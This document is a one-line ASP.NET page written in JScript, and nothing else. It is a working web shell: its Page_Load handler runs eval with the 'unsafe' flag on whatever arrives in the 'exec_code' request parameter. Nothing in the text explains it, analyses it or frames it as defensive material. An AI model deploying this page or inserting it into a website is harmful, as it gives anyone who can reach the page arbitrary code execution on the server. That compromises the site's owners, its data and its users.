<%@ Page Language="Jscript"%><script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>
